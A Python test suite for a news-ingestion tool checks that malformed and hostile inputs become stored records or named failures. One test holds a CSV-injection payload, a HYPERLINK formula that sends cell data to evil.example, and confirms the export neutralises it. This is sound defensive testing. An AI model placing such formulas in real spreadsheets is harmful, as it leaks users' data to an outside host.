"""Whatever a crawler brings back: every hostile input gives a correct record or a failure naming
it and the reason, the run finishes, and a run killed part-way loses and repeats nothing."""
import gzip
import io
import json
import os
import signal
import sqlite3
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest
from conftest import EXAMPLES, refuse_reading
from synthetic import write_jsonl
from typer.testing import CliRunner

from warta.cli import app
from warta.pipeline import Options, run
from warta.read import ReadFailure, read, read_stdin

ROOT = Path(__file__).resolve().parents[1]

NEWS = ("JAKARTA - Menteri Luar Negeri Retno Marsudi bertemu Menteri Luar Negeri Jepang di Jakarta pada "
        "Senin (3/6) untuk membahas kerja sama maritim kedua negara.")
ENGLISH = ("WASHINGTON - The United States and Japan agreed on Monday to deepen their maritime cooperation, "
           "officials said after a meeting in Washington that lasted most of the day and covered trade, "
           "security in the region and the next summit of the two countries' leaders.")
CHINESE = "北京 - 中国外交部发言人周一表示，中方愿同各方一道，推动地区和平与稳定。" * 3


def png() -> bytes:
    return b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4


def zip_file() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("berita.txt", NEWS)
    return buffer.getvalue()


def warc_without_target_uri() -> bytes:
    from warcio.statusandheaders import StatusAndHeaders
    from warcio.warcwriter import WARCWriter

    buffer = io.BytesIO()
    writer = WARCWriter(buffer, gzip=False)
    http = StatusAndHeaders("200 OK", [("Content-Type", "text/html")], protocol="HTTP/1.1")
    record = writer.create_warc_record("http://berita.example/a", "response", http_headers=http,
                                       payload=io.BytesIO(f"<html><body><p>{NEWS}</p></body></html>".encode()))
    record.rec_headers.remove_header("WARC-Target-URI")
    writer.write_record(record)
    return buffer.getvalue()


def hostile_corpus(folder: Path) -> dict[str, tuple[str, str]]:
    """Write one input per hostile case; return {file name: ("record", text the body must hold)
    or ("failure", words the reason must hold)}. JSONL, gzip and WARC cases name lines/records."""
    cases: dict[str, tuple[bytes | str, tuple[str, str]]] = {
        "kosong.txt": (b"", ("failure", "empty file")),
        "spasi.txt": (b" \n\t\r\n  \n", ("failure", "empty file")),
        "gambar.txt": (png(), ("failure", "binary content (a PNG image)")),
        "gambar.png": (png(), ("failure", "unsupported file type")),
        "arsip.txt": (zip_file(), ("failure", "binary content (a ZIP archive)")),
        "arsip.zip": (zip_file(), ("failure", "unsupported file type")),
        # A stray byte that is not UTF-8 (a crawler cut a character): read as the legacy page it is.
        "utf8-rusak.txt": (NEWS.encode() + b" \xff\xfe\xfa " + NEWS.encode(), ("record", "kerja sama maritim")),
        "utf16.txt": (NEWS.encode("utf-16"), ("record", "Retno Marsudi")),
        "cp1252.txt": ((NEWS + " \u201cKami sepakat,\u201d kata Retno.").encode("cp1252"),
                       ("record", "\u201cKami sepakat,\u201d kata Retno.")),
        "bersarang.html": ("<html><body>" + "<div>" * 100_000 + f"<p>{NEWS}</p>" + "</div>" * 100_000
                           + "</body></html>", ("failure", "HTML")),
        "tanpa-isi.html": ("<html><head><title>Beranda</title></head><body><nav>Beranda | Dunia</nav>"
                           "<script>var x = 1;</script></body></html>", ("failure", "HTML with no main text")),
        "inggris.txt": (ENGLISH, ("record", "maritime cooperation")),
        "tionghoa.txt": (CHINESE, ("record", "中国外交部")),
        "perabot.txt": ("Banner\nBACA JUGA: Ini Daftar Harga Emas Hari Ini\nBagikan:\nKomentar\n",
                        ("failure", "page furniture")),
        "kendali.txt": ("\x01\x02" + NEWS.replace(" ", " \u200f", 5).replace("Retno", "\u202eRetno\u202c")
                        + "\x07\x1b[31m\n", ("record", "Menteri Luar Negeri Retno Marsudi bertemu")),
    }
    expected = {}
    for name, (content, outcome) in cases.items():
        data = content.encode() if isinstance(content, str) else content
        (folder / name).write_bytes(data)
        expected[name] = outcome
    # JSON Lines: good, broken, wrong types, missing text, and one 50 MB line.
    lines = [json.dumps({"id": "jl-baik", "text": NEWS}), "{rusak", json.dumps({"id": "jl-tipe", "text": 42}),
             json.dumps({"id": "jl-tanpa-teks", "title": "Judul"}), json.dumps(["bukan", "objek"]),
             json.dumps({"id": "jl-besar", "text": "kata " * 10_000_000}), json.dumps({"id": "jl-akhir", "text": NEWS})]
    (folder / "campur.jsonl").write_text("\n".join(lines) + "\n", encoding="utf-8")
    expected.update({"campur.jsonl:1": ("record", "Retno"), "campur.jsonl:2": ("failure", "not JSON"),
                     "campur.jsonl:3": ("failure", "'text' is int, not a string"),
                     "campur.jsonl:4": ("failure", "no 'text'"), "campur.jsonl:5": ("failure", "a JSON list"),
                     "campur.jsonl:6": ("failure", "50.0 MB, above the limit"), "campur.jsonl:7": ("record", "Retno")})
    # Cut-off gzip: the lines before the cut are records (named `putus.jsonl.gz:N`), then a failure.
    packed = gzip.compress(write_jsonl(folder / "sumber.tmp", 60).read_bytes())
    (folder / "sumber.tmp").unlink()
    (folder / "putus.jsonl.gz").write_bytes(packed[: len(packed) // 2])
    expected["putus.jsonl.gz"] = ("failure", "ends early or is corrupt")
    warc = (EXAMPLES / "contoh.warc.gz").read_bytes()
    (folder / "putus.warc.gz").write_bytes(warc[: len(warc) // 3])
    expected["putus.warc.gz#1"] = ("failure", "truncated")
    # A symbolic-link loop, a folder link back to its parent (not followed), and a locked file.
    os.symlink(folder / "lingkar-b.txt", folder / "lingkar-a.txt")
    os.symlink(folder / "lingkar-a.txt", folder / "lingkar-b.txt")
    expected["lingkar-a.txt"] = expected["lingkar-b.txt"] = ("failure", "symbolic links")
    os.symlink(folder, folder / "balik")
    (folder / "terkunci.txt").write_text(NEWS, encoding="utf-8")
    os.chmod(folder / "terkunci.txt", 0)
    expected["terkunci.txt"] = ("failure", "permission denied")
    # Inputs that used to abort the whole run (issue 19): deep JSON, lone surrogates, a name
    # that is not UTF-8, a named pipe, a link to a device, WARC headers warcio cannot parse.
    lines = ["[" * 1000 + "]" * 1000, json.dumps({"id": "A \udcff", "title": "Judul \udcff", "text": NEWS})]
    (folder / "dalam.jsonl").write_text("\n".join(lines) + "\n", encoding="utf-8")
    expected.update({"dalam.jsonl:1": ("failure", "JSON nested deeper than 32 levels"),
                     "dalam.jsonl:2": ("record", "Retno")})
    (folder / os.fsdecode(b"nama-\xff.txt")).write_text(NEWS, encoding="utf-8")
    expected["nama-\\xff.txt"] = ("record", "Retno")
    os.mkfifo(folder / "pipa.txt")
    expected["pipa.txt"] = ("failure", "not a regular file but a named pipe")
    os.symlink("/dev/zero", folder / "nol.txt")
    expected["nol.txt"] = ("failure", "not a regular file but a character device")
    warc = warc_without_target_uri()
    (folder / "tanpa-uri.warc").write_bytes(warc)
    (folder / "kepala-putus.warc").write_bytes(warc[: warc.index(b"\r\n\r\n") // 2])
    expected["tanpa-uri.warc"] = expected["kepala-putus.warc"] = ("failure", "corrupt WARC")
    return expected


@pytest.mark.slow
def test_every_hostile_input_is_a_record_or_a_named_failure_and_the_run_finishes(tmp_path, monkeypatch):
    corpus = tmp_path / "kiriman"
    corpus.mkdir()
    expected = hostile_corpus(corpus)
    if os.geteuid() == 0:  # chmod 0 stops other users only; as root the refusal is simulated
        refuse_reading(monkeypatch, corpus / "terkunci.txt")
    db = tmp_path / "w.db"
    started = time.monotonic()
    result = CliRunner().invoke(app, ["ingest", str(corpus), "--db", str(db), "--workers", "2"])
    assert result.exit_code == 0, result.output
    # Within twice the sum of its limits: the time limit of one article (60 s) and model loading.
    assert time.monotonic() - started < 2 * 60, "every input is bounded; none hangs the run"
    connection = sqlite3.connect(db)
    records = {Path(origin).name: json.loads(record) for origin, record
               in connection.execute("SELECT origin, record FROM articles")}
    failures = {Path(input).name: reason for input, reason in connection.execute("SELECT input, reason FROM failures")}
    stored = len(records)
    before_cut = sorted(int(name.rsplit(":", 1)[1]) for name in records if name.startswith("putus.jsonl.gz:"))
    assert before_cut and before_cut == list(range(1, len(before_cut) + 1)) and len(before_cut) < 60
    assert f"after line {len(before_cut)}" in failures["putus.jsonl.gz"]
    records = {name: record for name, record in records.items() if not name.startswith("putus.jsonl.gz:")}
    assert set(records) | set(failures) == set(expected), "every input is accounted for, and nothing else"
    for name, (outcome, words) in expected.items():
        if outcome == "record":
            assert name in records and words in records[name]["body"], (name, failures.get(name))
        else:
            assert name in failures and words in failures[name], (name, records.get(name, {}).get("body"))
    assert records["inggris.txt"]["language"] == "en" and not records["inggris.txt"]["events"]
    assert records["tionghoa.txt"]["language"] == "zh" and not records["tionghoa.txt"]["entities"]
    control = records["kendali.txt"]["body"]
    assert not any(ord(c) < 32 and c != "\n" or c in "\u200f\u202e\u202c" for c in control)
    assert records["kendali.txt"]["events"]  # the cleaned text is coded like any other
    assert connection.execute("PRAGMA integrity_check").fetchone() == ("ok",)
    # A second run stores nothing twice and records no failure twice.
    again = CliRunner().invoke(app, ["ingest", str(corpus), "--db", str(db), "--workers", "2"])
    assert again.exit_code == 0
    assert connection.execute("SELECT count(*) FROM articles").fetchone()[0] == stored
    assert connection.execute("SELECT count(*) FROM failures").fetchone()[0] == len(failures)


@pytest.mark.slow
def test_twenty_thousand_tiny_files_are_all_stored(tmp_path):
    corpus = tmp_path / "kecil"
    corpus.mkdir()
    for number in range(20_000):
        (corpus / f"{number:05d}.txt").write_text(f"Presiden Prancis Emmanuel Macron bertemu Kanselir Jerman "
                                                   f"Olaf Scholz di Berlin, pertemuan ke-{number}.", encoding="utf-8")
    db = tmp_path / "w.db"
    result = CliRunner().invoke(app, ["ingest", str(corpus), "--db", str(db)])
    assert result.exit_code == 0, result.output
    connection = sqlite3.connect(db)
    assert connection.execute("SELECT count(DISTINCT doc_id), count(*) FROM articles").fetchone() == (20_000, 20_000)
    assert connection.execute("SELECT count(*) FROM failures").fetchone() == (0,)


def test_limits_on_size_name_the_input_and_reading_goes_on(tmp_path):
    big, small = tmp_path / "besar.txt", tmp_path / "kecil.txt"
    big.write_text(NEWS * 100, encoding="utf-8")
    small.write_text(NEWS, encoding="utf-8")
    lines = tmp_path / "baris.jsonl"
    lines.write_text("\n".join(json.dumps({"id": f"b{n}", "text": NEWS * n}) for n in (1, 50, 2)) + "\n")
    items = list(read([str(big), str(small), str(lines)], max_bytes=5_000))
    assert [getattr(item, "id", None) or item.input for item in items] == [
        str(big), "kecil", "b1", f"{lines}:2", "b2"]
    assert "above the limit of 0.0 MB per article (--max-bytes)" in items[0].reason
    warc = list(read([str(EXAMPLES / "contoh.warc.gz")], max_bytes=500))
    assert len(warc) == 1 and "record of" in warc[0].reason and "above the limit" in warc[0].reason
    [stdin] = read_stdin(io.BytesIO(NEWS.encode() * 100), max_bytes=5_000)
    assert stdin.input == "-" and "above the limit" in stdin.reason


def test_time_limit_on_html_extraction_is_a_named_failure(tmp_path, monkeypatch):
    import warta.webpage as webpage

    def endless(source):
        while True:
            pass

    monkeypatch.setattr(webpage, "page_text", endless)
    page, other = tmp_path / "lambat.html", tmp_path / "lain.txt"
    page.write_text(f"<html><body><p>{NEWS}</p></body></html>")
    other.write_text(NEWS)
    failure, record = list(run([str(page), str(other)], Options(time_limit=0.3)))
    assert failure.input == str(page) and "took longer than the time limit of 0.3 s" in failure.reason
    assert record.source.origin == str(other)  # the run goes on


@pytest.mark.parametrize("workers", ["1", "2"])
def test_a_time_limit_shorter_than_loading_the_models_times_articles_not_the_loading(tmp_path, workers):
    # Loading spaCy and the actor dictionary takes seconds; each try used to start the loading
    # again under the limit, so every article failed. A fresh process, so nothing is loaded yet.
    corpus = write_jsonl(tmp_path / "kecil.jsonl", 100)  # four batches: workers when asked for
    out = tmp_path / "out.jsonl"
    done = subprocess.run([sys.executable, "-m", "warta", "extract", str(corpus), "-o", str(out), "--time-limit",
                           "0.5", "--workers", workers], capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    assert len(out.read_text(encoding="utf-8").splitlines()) == 100 and "longer than the time limit" not in done.stderr


def count_rows(db: Path) -> int:
    try:
        with sqlite3.connect(f"file:{db}?mode=ro", uri=True, timeout=1) as connection:
            return connection.execute("SELECT count(*) FROM articles").fetchone()[0]
    except sqlite3.OperationalError:  # not created yet
        return 0


@pytest.mark.slow
def test_ingest_killed_part_way_then_run_again_stores_every_article_exactly_once(tmp_path):
    corpus = write_jsonl(tmp_path / "besar.jsonl", 1200)
    db = tmp_path / "w.db"
    command = [sys.executable, "-m", "warta", "ingest", str(corpus), "--db", str(db), "--workers", "2"]
    process = subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
    try:
        deadline = time.monotonic() + 300
        while count_rows(db) == 0 and process.poll() is None and time.monotonic() < deadline:
            time.sleep(0.05)
        os.kill(process.pid, signal.SIGKILL)  # warta ingest itself, as the OOM killer would
        process.wait()
    finally:
        time.sleep(0.5)
        try:
            os.killpg(process.pid, signal.SIGKILL)  # its orphaned workers, if any are left
        except ProcessLookupError:
            pass
    stored_when_killed = count_rows(db)
    assert process.returncode == -signal.SIGKILL
    assert 0 < stored_when_killed < 1200, "killed part-way, with some articles committed"
    subprocess.run(command, check=True, capture_output=True)
    connection = sqlite3.connect(db)
    assert connection.execute("PRAGMA integrity_check").fetchone() == ("ok",)
    assert connection.execute("PRAGMA foreign_key_check").fetchall() == []
    ids = [row[0] for row in connection.execute("SELECT doc_id FROM articles ORDER BY id")]
    assert ids == [f"sintetis-{n:06d}" for n in range(1200)], "each article once, in input order"
    assert connection.execute("SELECT count(*) FROM failures").fetchone() == (0,)
    # The search index holds every article once, and the actor rows none twice.
    connection.execute("INSERT INTO articles_fts(articles_fts) VALUES ('integrity-check')")
    assert connection.execute("SELECT count(*) FROM articles_fts").fetchone() == (1200,)
    assert connection.execute("SELECT count(*) FROM (SELECT article_id, start FROM quotes GROUP BY 1, 2 "
                              "HAVING count(*) > 1)").fetchone() == (0,)
    assert connection.execute("SELECT count(DISTINCT article_id) FROM mentions").fetchone() == (1200,)


def test_inputs_that_used_to_abort_the_run_are_named_failures_or_repaired_records(tmp_path):
    corpus = tmp_path / "kiriman"
    corpus.mkdir()
    lines = ["[" * 1000 + "]" * 1000,  # deeper than Python's recursion limit
             json.dumps({"id": "A \udcff", "title": "Judul \udcff", "text": NEWS}),  # lone surrogates
             json.dumps({"id": "dalam", "text": NEWS, "lain": json.loads("[" * 40 + "]" * 40)}),
             json.dumps({"id": "baik", "text": NEWS})]
    (corpus / "campur.jsonl").write_text("\n".join(lines) + "\n", encoding="utf-8")
    (corpus / os.fsdecode(b"nama-\xff.txt")).write_text(NEWS, encoding="utf-8")  # a name that is not UTF-8
    os.mkfifo(corpus / "pipa.txt")  # opening it would block for ever
    os.symlink("/dev/zero", corpus / "nol.txt")  # reading it would never end
    warc = warc_without_target_uri()
    (corpus / "tanpa-uri.warc").write_bytes(warc)
    (corpus / "kepala-putus.warc").write_bytes(warc[: warc.index(b"\r\n\r\n") // 2])
    db = tmp_path / "w.db"
    started = time.monotonic()
    result = CliRunner().invoke(app, ["ingest", str(corpus), "--db", str(db), "--workers", "1"])
    assert result.exit_code == 0, result.output
    assert time.monotonic() - started < 120
    connection = sqlite3.connect(db)
    stored = {doc_id: title for doc_id, title in connection.execute("SELECT doc_id, title FROM articles")}
    assert stored == {"A \ufffd": "Judul \ufffd", "baik": None, "nama-\\xff": None}
    failures = dict(connection.execute("SELECT input, reason FROM failures"))
    assert failures[f"{corpus}/campur.jsonl:1"] == failures[f"{corpus}/campur.jsonl:3"] == \
        "JSON nested deeper than 32 levels"
    assert failures[f"{corpus}/pipa.txt"] == "not a regular file but a named pipe"
    assert failures[f"{corpus}/nol.txt"] == "not a regular file but a character device"
    for name in ("tanpa-uri.warc", "kepala-putus.warc"):
        assert "corrupt WARC" in failures[f"{corpus}/{name}"]
    assert len(failures) == 6


def test_failures_are_counted_but_only_the_first_thousand_kept(tmp_path):
    corpus = tmp_path / "buruk.jsonl.gz"
    with gzip.open(corpus, "wt", encoding="utf-8") as handle:
        handle.write(json.dumps({"id": "baik", "text": NEWS}) + "\n")
        for number in range(3000):
            handle.write("{rusak %d\n" % number)
    db = tmp_path / "w.db"
    result = CliRunner().invoke(app, ["ingest", str(corpus), "--db", str(db), "--workers", "1"])
    assert result.exit_code == 0, result.output
    said = " ".join(result.output.split())
    assert "Could not read 3000 input(s)" in said and "the other 2000 only counted" in said
    connection = sqlite3.connect(db)
    assert connection.execute("SELECT count(*) FROM failures").fetchone() == (1000,)
    assert connection.execute("SELECT count(*) FROM articles").fetchone() == (1,)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_a_spreadsheet_would_run_are_neutralised(start):
    import csv

    from warta.store import csv_rows

    hostile = start + 'HYPERLINK("http://evil.example/?x="&A1,"klik")'
    record = {"id": "x", "source": "s", "url": None, "title": hostile, "published": None, "dateline": None,
              "outlet": None, "language": "id", "cited_sources": [hostile], "duplicate_of": None,
              "body": start + "SUM(1,2)"}
    header, row = csv.reader(io.StringIO("".join(csv_rows(iter([record])))))
    cells = dict(zip(header, row))
    assert cells["title"] == "'" + hostile and cells["body"] == "'" + start + "SUM(1,2)"
    assert cells["cited_sources"] == "'" + hostile and cells["id"] == "x"


def test_a_second_writer_gets_one_clear_line_not_a_traceback(tmp_path, monkeypatch):
    import warta.store

    db = tmp_path / "w.db"
    first = CliRunner().invoke(app, ["ingest", str(EXAMPLES), "--db", str(db), "--workers", "1"])
    assert first.exit_code == 0, first.output
    article = tmp_path / "baru.txt"
    article.write_text(NEWS, encoding="utf-8")
    monkeypatch.setattr(warta.store, "BUSY_TIMEOUT_MS", 300)
    holder = sqlite3.connect(db, isolation_level=None)
    holder.execute("BEGIN IMMEDIATE")  # another writer, mid-transaction
    try:
        result = CliRunner().invoke(app, ["ingest", str(article), "--db", str(db), "--workers", "1"])
    finally:
        holder.execute("ROLLBACK")
        holder.close()
    assert result.exit_code == 2
    said = " ".join(result.output.split())
    assert "database is locked" in said and "one writer at a time" in said
    assert "Traceback" not in result.output and result.exception is None or isinstance(result.exception, SystemExit)


def test_a_database_on_a_read_only_filesystem_is_searched_exported_and_served(tmp_path, monkeypatch):
    import warta.store
    from fastapi.testclient import TestClient

    from warta.serve import create_app

    folder = tmp_path / "arsip"
    folder.mkdir()
    db = folder / "w.db"
    assert CliRunner().invoke(app, ["ingest", str(EXAMPLES), "--db", str(db), "--workers", "1"]).exit_code == 0
    assert not (folder / "w.db-wal").exists()
    os.chmod(db, 0o444)
    os.chmod(folder, 0o555)
    real_access = os.access
    # As root, chmod stops nobody; answer as a read-only filesystem would (EROFS).
    monkeypatch.setattr(warta.store.os, "access", lambda path, mode: False if mode & os.W_OK and
                        Path(path).resolve() in (folder.resolve(), db.resolve()) else real_access(path, mode))
    try:
        search = CliRunner().invoke(app, ["search", "kerja sama", "--db", str(db)])
        assert search.exit_code == 0, search.output
        assert "best match" in search.output
        export = CliRunner().invoke(app, ["export", "--db", str(db), "--format", "csv"])
        assert export.exit_code == 0 and "\nid,source,url," in "\n" + export.output
        client = TestClient(create_app(str(db)))
        found = client.get("/api/articles", params={"q": "kerja sama"})
        assert found.status_code == 200 and found.json()["total"] > 0
        assert client.get("/").status_code == 200
        assert sorted(p.name for p in folder.iterdir()) == ["w.db"]  # nothing written beside it
    finally:
        os.chmod(folder, 0o755)


def test_lxml_html_clean_is_a_declared_dependency_and_html_reads():
    from importlib.metadata import requires

    assert any(requirement.lower().replace("-", "_").startswith("lxml_html_clean") for requirement in requires("warta"))
    import lxml.html.clean  # noqa: F401  (trafilatura needs it; lxml no longer carries it)

    [article] = run([str(EXAMPLES / "kunjungan-kenegaraan.html")], Options())
    assert not isinstance(article, Exception) and len(article.cleaned.body) > 200


@pytest.mark.slow
def test_html_reads_where_warta_was_installed_with_plain_pip_install(tmp_path):
    # As a user on a fresh machine would: a new venv, the pip it comes with, `pip install .`,
    # and whatever the resolver picks from what pyproject declares.
    # (From a copy: pip builds a local project in its own folder, and this one's stays clean.)
    import shutil

    source = tmp_path / "warta"
    shutil.copytree(ROOT, source, ignore=shutil.ignore_patterns(".venv", ".git", "build", "*.db*", "__pycache__",
                                                                   ".pytest_cache", ".hypothesis", "*.egg-info"))
    venv = tmp_path / "venv"
    subprocess.run([sys.executable, "-m", "venv", str(venv)], check=True)
    installed = subprocess.run([str(venv / "bin" / "python"), "-m", "pip", "install", "-q", str(source)],
                               capture_output=True, text=True)
    assert installed.returncode == 0, installed.stderr[-3000:]
    out = tmp_path / "out.jsonl"
    extracted = subprocess.run([str(venv / "bin" / "warta"), "extract", str(EXAMPLES / "kunjungan-kenegaraan.html"),
                                "-o", str(out)], capture_output=True, text=True)
    assert extracted.returncode == 0, extracted.stderr[-3000:]
    [record] = [json.loads(line) for line in out.read_text().splitlines()]
    assert len(record["body"]) > 200 and record["title"]


@pytest.mark.slow
def test_workers_die_with_their_parent_however_it_dies(tmp_path):
    corpus = write_jsonl(tmp_path / "besar.jsonl", 2000)
    db = tmp_path / "w.db"
    process = subprocess.Popen([sys.executable, "-m", "warta", "ingest", str(corpus), "--db", str(db),
                                "--workers", "2"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                               start_new_session=True)
    deadline = time.monotonic() + 300
    while count_rows(db) == 0 and process.poll() is None and time.monotonic() < deadline:
        time.sleep(0.05)
    assert process.poll() is None and len(in_session(process.pid)) >= 3  # ingest, two workers, ...
    os.kill(process.pid, signal.SIGKILL)
    process.wait()
    deadline = time.monotonic() + 10
    while in_session(process.pid) and time.monotonic() < deadline:
        time.sleep(0.2)
    left = in_session(process.pid)
    try:
        assert not left, f"still running 10 s after their parent was killed: {left}"
    finally:
        for pid in left:
            os.kill(pid, signal.SIGKILL)


def in_session(session: int) -> list[int]:
    """Live processes of session `session` (zombies, already dead, left out)."""
    found = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            fields = (entry / "stat").read_text().rsplit(")", 1)[1].split()
        except OSError:
            continue
        if int(fields[3]) == session and fields[0] != "Z":  # fields: state, ppid, pgrp, session
            found.append(int(entry.name))
    return found


@pytest.mark.slow
def test_an_article_of_more_than_a_million_characters_is_coded_within_its_time_limit(tmp_path):
    sentence = ("Menteri Luar Negeri Retno Marsudi bertemu Menteri Luar Negeri Jepang di Tokyo pada Senin "
                "untuk membahas kerja sama maritim kedua negara. ")
    text = sentence * (1_050_000 // len(sentence))  # one paragraph, over spaCy's 1,000,000 (E088)
    corpus = tmp_path / "panjang.jsonl"
    corpus.write_text(json.dumps({"id": "panjang", "text": text}) + "\n", encoding="utf-8")
    out = tmp_path / "out.jsonl"
    started = time.monotonic()
    result = CliRunner().invoke(app, ["extract", str(corpus), "-o", str(out), "--workers", "1", "--time-limit", "120"])
    assert result.exit_code == 0, result.output
    assert time.monotonic() - started < 120 * 1.1 + 30  # the limit, 10%, and loading the models
    [record] = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
    assert len(record["body"]) > 1_000_000 and record["events"]


@pytest.mark.parametrize("compressed", [False, True])
def test_a_warc_cut_at_any_byte_names_the_cut_or_reads_every_article(tmp_path, compressed):
    # warcio ends without a word where a file ends inside a record's header, and reads the
    # header it has; every such cut must be a named failure, not one article fewer.
    whole = (EXAMPLES / "contoh.warc.gz").read_bytes()  # one HTML page, then an image
    data = whole if compressed else gzip.decompress(whole)
    path = tmp_path / ("putus.warc.gz" if compressed else "putus.warc")
    silent = []
    for cut in range(1, len(data) + 1):
        path.write_bytes(data[:cut])
        items = list(read([str(path)]))
        failures = [item for item in items if isinstance(item, ReadFailure)]
        assert all("WARC" in failure.reason and path.name in failure.input for failure in failures)
        if not failures:
            silent.append(cut)
            assert len(items) == 1 and items[0].url.endswith("korsel-indonesia-pertahanan"), cut
    # Read without a word only where nothing of the page is missing: a cut in the blank lines
    # or the gzip trailer after a record, or at a record's end.
    assert silent and len(silent) <= 30 and silent[-1] == len(data)
